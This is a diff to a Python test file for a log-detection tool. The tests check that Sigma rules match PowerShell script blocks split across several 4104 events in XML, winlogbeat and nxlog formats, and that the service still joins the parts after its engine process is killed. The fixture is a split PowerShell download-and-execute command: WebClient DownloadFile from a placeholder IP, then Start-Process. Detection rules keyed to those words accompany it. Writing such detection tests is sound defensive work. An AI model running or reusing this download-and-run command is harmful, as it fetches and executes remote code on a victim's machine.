@@ -5,11 +5,14 @@ import glob
 import json
 import os
 import shutil
+import signal
 import subprocess
 import sys
 import tempfile
+import time
 
-from service import QORGAN, ROOT, Skip, check, check_equal, main
+from service import QORGAN, ROOT, Service, Skip, check, check_equal, main
+from web_api import Web
 
 SHARED = os.path.join(ROOT, "..", "shared", "data")
 SIGMA = os.path.join(SHARED, "sigma")
@@ -115,6 +118,81 @@ def evtx_files():
         print(f"# {total} events of {len(paths)} files")
 
 
+SCRIPT = ("$c = New-Object Net.WebCl", "ient; $c.DownloadFile('http://192.0.2.1/x', 'x'); ", "Start-Process x")
+SCRIPT_RULES = {
+    "both": ("all", ["New-Object", "Start-Process"], "11111111-1111-4111-8111-111111111111"),
+    "cut": ("all", ["Net.WebClient"], "22222222-2222-4222-8222-222222222222"),
+    "one": ("all", ["DownloadFile"], "33333333-3333-4333-8333-333333333333"),
+    "never": ("all", ["New-Object", "absent"], "44444444-4444-4444-8444-444444444444"),
+}
+
+
+def script_rules(folder):
+    for name, (modifier, words, identity) in SCRIPT_RULES.items():
+        folder.file(f"{name}.yml", (
+            f"title: {name}\nid: {identity}\nlogsource:\n    product: windows\n    category: ps_script\ndetection:\n"
+            f"    s:\n        ScriptBlockText|contains|{modifier}: {json.dumps(words)}\n    condition: s\n"
+            "level: high\n").encode())
+
+
+def script_piece(form, number, total=3, block="b1"):
+    fields = {"MessageNumber": str(number), "MessageTotal": str(total), "ScriptBlockText": SCRIPT[number - 1],
+              "ScriptBlockId": block, "Path": ""}
+    channel = "Microsoft-Windows-PowerShell/Operational"
+    if form == "xml":
+        quoted = {name: value.replace("'", "&apos;") for name, value in fields.items()}
+        data = "".join(f"<Data Name='{name}'>{value}</Data>" for name, value in quoted.items())
+        return (f"<Event><System><EventID>4104</EventID><Channel>{channel}</Channel><Computer>ws1</Computer></System>"
+                f"<EventData>{data}</EventData></Event>\n")
+    if form == "winlogbeat":
+        return json.dumps({"winlog": {"channel": channel, "event_id": "4104", "computer_name": "ws1",
+                                      "event_data": fields}}) + "\n"
+    return json.dumps({"Channel": channel, "EventID": 4104, "Hostname": "ws1", **fields}) + "\n"
+
+
+def script_blocks():
+    """a script over three events 4104: rules see the whole, once; what lacks a part is matched as far as it came"""
+    whole = collections.Counter(("both", "cut", "one"))
+    with Folder() as folder:
+        script_rules(folder)
+        for form in ("xml", "winlogbeat", "nxlog"):
+            for order in ((1, 2, 3), (3, 1, 2)):
+                path = folder.file("script.log", "".join(script_piece(form, n) for n in order).encode())
+                rows, said = detect("--rules", folder.path, path)
+                check_equal(collections.Counter(row["title"] for row in rows), whole, f"{form} in the order {order}")
+                check_equal(said, "", "complaints")
+            path = folder.file("script.log", (script_piece(form, 1) + script_piece(form, 3)).encode())
+            rows, said = detect("--rules", folder.path, path)
+            check_equal([row["title"] for row in rows], ["both"], f"{form} without its second part")
+            check("1 PowerShell scripts lack pieces" in said, said)
+            path = folder.file("script.log", (script_piece(form, 1) + script_piece(form, 2, block="b2")).encode())
+            check_equal([row["title"] for row in detect("--rules", folder.path, path)[0]], ["one"], "of two scripts")
+        folder.file("both.must.xml", "".join(script_piece("xml", n) for n in (1, 2, 3)).encode())
+        folder.file("both.not.xml", "".join(script_piece("xml", n) for n in (1, 2)).encode())
+        done = subprocess.run([QORGAN, "rules", "test", folder.path], capture_output=True, text=True, check=False,
+                              timeout=60)
+        check("2 passed, 0 failed" in done.stdout, done.stdout + done.stderr)
+
+
+def script_blocks_in_service():
+    """the service joins them too, also when its engine dies between two parts"""
+    with Folder() as folder:
+        script_rules(folder)
+        with Service(rules=folder.path) as service:
+            web = Web(service)
+            service.tcp(script_piece("nxlog", 1).encode())
+            service.wait_for("ScriptBlockText:*", 1)
+            for pid in service.pids("engine"):
+                os.kill(pid, signal.SIGKILL)
+            service.tcp((script_piece("nxlog", 2) + script_piece("nxlog", 3)).encode())
+            deadline = time.time() + 90
+            titles = []
+            while time.time() < deadline and len(titles) < 3:
+                titles = sorted(row["title"] for row in web.ask("incident.list", state="all")["incidents"])
+                time.sleep(0.3)
+            check_equal(titles, ["both", "cut", "one"], "incidents")
+
+
 def golden():
     """all public rules on all regression cases: exactly the firings of the golden file, from EVTX and from JSON"""
     with open(shared("sigma/regression_all_rules.json"), encoding="utf-8") as file:
@@ -154,4 +232,4 @@ def damaged():
 
 
 if __name__ == "__main__":
-    sys.exit(main([xml_files, long_events, evtx_files, golden, damaged]))
+    sys.exit(main([xml_files, long_events, evtx_files, script_blocks, script_blocks_in_service, golden, damaged]))
